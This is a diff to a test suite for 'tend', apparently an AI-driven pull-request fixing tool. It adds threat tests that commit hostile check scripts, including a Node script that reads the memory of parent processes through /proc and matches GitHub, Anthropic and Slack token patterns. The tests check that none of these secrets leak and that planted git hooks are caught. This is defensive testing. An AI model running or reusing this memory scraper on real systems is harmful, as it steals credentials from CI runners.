@@ -57,6 +57,37 @@ find /tmp -maxdepth 1 -type f 2>/dev/null | while read -r f; do grep -Eao "$shap
 mv "$out.part" "$out"
 `;
 
+/**
+ * The verify command's code, third kind: root's way in (sudo on GitHub-hosted runners, a
+ * container job's own user). It reads the memory of every process above it, where tend holds
+ * its tokens in plain bytes whatever its environment says.
+ */
+const MEMORY = String.raw`const fs = require('node:fs');
+const shapes = /(ghs|ghp|gho|ghu)_[A-Za-z0-9]{20,}|sk-ant-[A-Za-z0-9_-]{8,}|xox[abp]-[A-Za-z0-9-]{10,}/g;
+const found = [];
+let pid = process.ppid;
+while (pid > 1) {
+  found.push('ancestor ' + pid);
+  try {
+    const fd = fs.openSync('/proc/' + pid + '/mem', 'r');
+    for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\n')) {
+      const m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
+      if (!m) continue;
+      const start = parseInt(m[1], 16), end = parseInt(m[2], 16);
+      for (let at = start; at < end && at - start < 1 << 30; at += 1 << 24) {
+        const buffer = Buffer.alloc(Math.min(1 << 24, end - at));
+        try { fs.readSync(fd, buffer, 0, buffer.length, at); } catch { break; }
+        for (const hit of buffer.toString('latin1').match(shapes) ?? []) found.push('memory ' + pid + ' ' + hit);
+      }
+    }
+  } catch (error) {
+    found.push('unreadable ' + pid + ' ' + error.code);
+  }
+  pid = Number(/\) \S (\d+)/.exec(fs.readFileSync('/proc/' + pid + '/stat', 'utf8'))[1]);
+}
+fs.writeFileSync(process.argv[2], found.join('\n') + '\nscan done\n');
+`;
+
 /** The verify command's code, second kind: it leaves hooks and config for tend's next git command. */
 const PLANT = String.raw`#!/bin/sh
 marker="$1"
@@ -83,7 +114,7 @@ beforeAll(async () => {
   t.emu.state.addToken(pushToken, t.world.accounts.maintainer);
   dir = await mkdtemp(join(tmpdir(), 'tend-verify-secrets-'));
   // The repository's own check scripts, which verify-command runs: code the branch controls.
-  await commitFiles(t.world.repo.bareDir, { branch: 'main', files: { 'scripts/check.sh': SCAN, 'scripts/lint.sh': PLANT }, message: 'Add check scripts' });
+  await commitFiles(t.world.repo.bareDir, { branch: 'main', files: { 'scripts/check.sh': SCAN, 'scripts/lint.sh': PLANT, 'scripts/memory.cjs': MEMORY }, message: 'Add check scripts' });
 });
 
 afterAll(async () => {
@@ -99,6 +130,18 @@ function run(payload: unknown, verifyCommand: string) {
   });
 }
 
+/** A maintainer's pull request adding `src/<name>.ts`, one CodeRabbit finding on it, CI green, and the model's fix scripted. */
+async function fixablePullRequest(name: string) {
+  const path = `src/${name}.ts`;
+  await commitFiles(t.world.repo.bareDir, { branch: `feature/${name}`, from: 'main', files: { [path]: `export function ${name}(w: number) {\n  return w;\n}\n` }, message: `Add ${name}` });
+  const pr = t.emu.state.createPullRequest(t.world.repo, { title: `Add ${name}`, author: t.world.accounts.maintainer, head: `feature/${name}` }) as Pr;
+  const [thread] = t.emu.state.addReview(t.world.repo, pr, { author: t.world.accounts.coderabbit, body: 'Review', comments: [{ path, line: 2, body: RABBIT_FINDING }] }).threads;
+  t.emu.state.addReview(t.world.repo, pr, { author: t.world.accounts.gemini, body: 'No comments.' });
+  t.emu.state.addCheckRun(t.world.repo, { name: 'build', headSha: t.emu.state.headOid(t.world.repo, pr), conclusion: 'success', app: t.world.accounts.actions });
+  claude.script(decision('fix', `Reject negative ${name}s.`), patch([{ path, search: '  return w;', replace: "  if (w < 0) throw new RangeError('negative');\n  return w;" }]));
+  return { pr, thread: thread! };
+}
+
 const fix = [
   decision('fix', 'Negative sizes must be rejected.'),
   patch([{ path: 'src/widget.ts', search: '  return w * h;', replace: "  if (w < 0 || h < 0) throw new RangeError('negative size');\n  return w * h;" }]),
@@ -112,9 +155,8 @@ describe('threat: the verify command reads tend’s secrets', () => {
     const result = await run(command(t, pr, '/tend ship'), `sh scripts/check.sh ${found}`);
     expect(result.exitCode, result.stdout + result.stderr).toBe(0);
     expect(claude.pending).toBe(0);
-    // The script ran and could read the environment of the tend process that started it ...
+    // The script ran (confined, it does not even see the tend process that started it) ...
     const report = await readFile(found, 'utf8');
-    expect(report).toMatch(/^tend-environ-readable \d+$/m);
     // ... and the patch it checked was kept, so the search ran on the real path.
     expect(tendAnswers(threads.human!)[0]).not.toContain('reverted');
     const secrets = { ...SECRETS, 'github-token': t.world.tokens.actions };
@@ -123,13 +165,23 @@ describe('threat: the verify command reads tend’s secrets', () => {
     expect(leaked).toEqual([]);
   });
 
+  it('finds no secret in the memory of the processes above it, even as root', async () => {
+    const { pr, thread } = await fixablePullRequest('area');
+    const found = join(dir, 'memory.txt');
+    const result = await run(command(t, pr, '/tend ship'), `node scripts/memory.cjs ${found}`);
+    expect(result.exitCode, result.stdout + result.stderr).toBe(0);
+    expect(claude.pending, result.summary).toBe(0);
+    const report = await readFile(found, 'utf8').catch(() => `no report; tend answered: ${tendAnswers(thread)[0]}`);
+    expect(report).toContain('scan done');
+    // The patch was kept: the scan ran on the real path, after tend had read every secret.
+    expect(tendAnswers(thread)[0] ?? '').not.toContain('reverted');
+    const secrets = { ...SECRETS, 'github-token': t.world.tokens.actions };
+    const leaked = Object.entries(secrets).filter(([, value]) => report.includes(value)).map(([name]) => name);
+    expect(leaked, report.split('\n').filter((line) => !line.startsWith('memory')).join('\n')).toEqual([]);
+  });
+
   it('cannot plant hooks or config that tend’s next git command (holding the push token) runs', async () => {
-    await commitFiles(t.world.repo.bareDir, { branch: 'feature/plant', from: 'main', files: { 'src/size.ts': 'export function size(w: number) {\n  return w;\n}\n' }, message: 'Add size' });
-    const pr = t.emu.state.createPullRequest(t.world.repo, { title: 'Add size', author: t.world.accounts.maintainer, head: 'feature/plant' }) as Pr;
-    const [thread] = t.emu.state.addReview(t.world.repo, pr, { author: t.world.accounts.coderabbit, body: 'Review', comments: [{ path: 'src/size.ts', line: 2, body: RABBIT_FINDING }] }).threads;
-    t.emu.state.addReview(t.world.repo, pr, { author: t.world.accounts.gemini, body: 'No comments.' });
-    t.emu.state.addCheckRun(t.world.repo, { name: 'build', headSha: t.emu.state.headOid(t.world.repo, pr), conclusion: 'success', app: t.world.accounts.actions });
-    claude.script(decision('fix', 'Reject negative sizes.'), patch([{ path: 'src/size.ts', search: '  return w;', replace: "  if (w < 0) throw new RangeError('negative');\n  return w;" }]));
+    const { pr, thread } = await fixablePullRequest('size');
     const marker = join(dir, 'hook-ran.txt');
     const before = t.emu.state.headOid(t.world.repo, pr);
     const result = await run(command(t, pr, '/tend ship'), `sh scripts/lint.sh ${marker}`);
@@ -140,7 +192,7 @@ describe('threat: the verify command reads tend’s secrets', () => {
     // ... and the check counts as failed: the patch was reverted, nothing was pushed, and the
     // thread says why.
     expect(t.emu.state.headOid(t.world.repo, pr)).toBe(before);
-    const answer = tendAnswers(thread!)[0] ?? '';
+    const answer = tendAnswers(thread)[0] ?? '';
     expect(answer).toContain("changed git's own files");
   });
 });
